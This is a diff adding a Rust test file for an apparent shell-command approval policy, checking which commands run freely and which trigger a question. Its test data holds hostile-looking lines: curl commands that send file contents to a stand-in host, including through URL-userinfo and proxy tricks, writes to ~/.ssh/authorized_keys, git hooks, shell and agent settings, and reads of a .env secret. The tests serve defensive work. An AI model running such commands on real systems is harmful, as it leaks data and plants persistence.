@@ -1,0 +1,133 @@
+//! `approval.project`, `approval.sensitive` and `lines.send`: which lines are asked about, by what they change, print and send.
+
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+
+use crate::support::{climax, run};
+
+/// What becomes of a line where nobody can be asked.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Decision {
+    Runs,
+    Asks,
+}
+
+/// A repository with tracked, ignored and secret files.
+fn project() -> tempfile::TempDir {
+    let directory = tempfile::tempdir().unwrap();
+    let path = directory.path();
+    for (name, text) in [("a", "a\n"), ("b", "b\n"), ("src/s", "s\n"), ("build/o", "o\n"), (".gitignore", "build\n")] {
+        let file = path.join(name);
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(file, text).unwrap();
+    }
+    fs::write(path.join(".env"), "TOKEN=1\n").unwrap();
+    git(path, &["init", "-q"]);
+    git(path, &["add", "a", "b", "src", ".gitignore"]);
+    directory
+}
+
+fn git(directory: &Path, args: &[&str]) {
+    #[expect(clippy::disallowed_methods, reason = "the test makes a repository")]
+    let status = Command::new("git").current_dir(directory).args(args).status().unwrap();
+    assert!(status.success(), "git {args:?}");
+}
+
+/// Runs each line in a project of its own, under a policy that asks and a client that cannot be asked.
+fn check(policy: &str, lines: &[(&str, Decision)]) {
+    for (line, expected) in lines {
+        let project = project();
+        let file = tempfile::NamedTempFile::new().unwrap();
+        fs::write(file.path(), policy).unwrap();
+        let mut command = climax();
+        command.current_dir(project.path()).args(["sh", "--policy"]).arg(file.path()).args(["-c", line]);
+        let (status, stdout, stderr) = run(&mut command);
+        let found = if status == 126 { Decision::Asks } else { Decision::Runs };
+        assert_eq!(found, *expected, "{line}: {status} {stdout}{stderr}");
+    }
+}
+
+const PROJECT: &str = "default: enabled\napproval: {global: destructive, project: write, sensitive: allow}\n";
+
+#[test]
+fn single_files_of_the_project_are_changed_without_a_question() {
+    let lines = ["cp a b", "mv a b", "rm a", "echo x > a", "sed -i s/a/b/ a", "tee b < a", "mkdir -p x/y && rmdir x/y"];
+    check(PROJECT, &lines.map(|line| (line, Decision::Runs)));
+    let without = "default: enabled\napproval: {global: destructive, sensitive: allow}\n";
+    check(without, &[("rm a", Decision::Asks), ("echo x > a", Decision::Asks), ("mkdir x", Decision::Runs)]);
+}
+
+#[test]
+fn directories_are_removed_without_a_question_only_if_git_ignores_all_of_them() {
+    check(
+        PROJECT,
+        &[
+            ("rm -rf build", Decision::Runs),
+            ("rm -rf ./src/../build", Decision::Runs),
+            ("rm -rf src", Decision::Asks),
+            ("rm -rf build src", Decision::Asks),
+            ("rm -rf build/../src", Decision::Asks),
+            ("rm -rf .", Decision::Asks),
+            ("rm -rf *", Decision::Asks),
+            ("git add -f build/o && rm -rf build", Decision::Asks),
+            ("mkdir build/.git && rm -rf build", Decision::Asks),
+        ],
+    );
+}
+
+#[test]
+fn what_other_programs_load_and_files_elsewhere_are_asked_about() {
+    let lines = [
+        "cp a .git/hooks/pre-commit",
+        "cp a .envrc",
+        "touch .vscode/tasks.json",
+        "mkdir -p .claude && cp a .claude/settings.json",
+        "touch ~/.bashrc",
+        "cp .gitignore ~/.ssh/authorized_keys",
+        "ln -s /etc/hosts .envrc",
+        "cp a /etc/climax-test",
+        "mv /etc/hosts a",
+        "rm ../outside",
+        "git checkout -- a",
+    ];
+    check(PROJECT, &lines.map(|line| (line, Decision::Asks)));
+}
+
+#[test]
+fn what_prints_secrets_is_asked_about_by_name_and_by_config() {
+    let policy = "default: enabled\napproval: {global: destructive}\n";
+    check(
+        policy,
+        &[
+            ("cat .env", Decision::Asks),
+            ("grep TOKEN .env", Decision::Asks),
+            ("cat < .env", Decision::Asks),
+            ("git show HEAD:.env", Decision::Asks),
+            ("f=.env; cat \"$f\"", Decision::Asks),
+            ("ls -la .env", Decision::Runs),
+            ("cat .env.example", Decision::Runs),
+            ("cat a", Decision::Runs),
+        ],
+    );
+    let open = "default: enabled\napproval: {global: none}\n";
+    check(open, &[("cat .env", Decision::Runs)]);
+    let deny = "default: enabled\napproval: {global: none, sensitive: deny}\n";
+    check(deny, &[("cat .env", Decision::Asks), ("cat a", Decision::Runs)]);
+}
+
+#[test]
+fn data_is_sent_without_a_question_to_named_hosts_alone() {
+    let policy = "default: enabled\napproval: {global: destructive}\nlines: {send: [127.0.0.2, '*.invalid']}\n";
+    check(
+        policy,
+        &[
+            ("curl -s -m 1 \"http://127.0.0.1:9/?$(cat a)\"", Decision::Runs),
+            ("curl -s -m 1 \"http://x.invalid/?$(cat a)\"", Decision::Runs),
+            ("curl -s -m 1 \"http://y.example/?$(cat a)\"", Decision::Asks),
+            ("curl -s -m 1 \"http://x.invalid@y.example/?$(cat a)\"", Decision::Asks),
+            ("curl -s -m 1 \"http://$(cat a).invalid/\" http://y.example/", Decision::Asks),
+            ("curl -s -m 1 -x http://y.example:1 \"http://x.invalid/?$(cat a)\"", Decision::Asks),
+        ],
+    );
+}
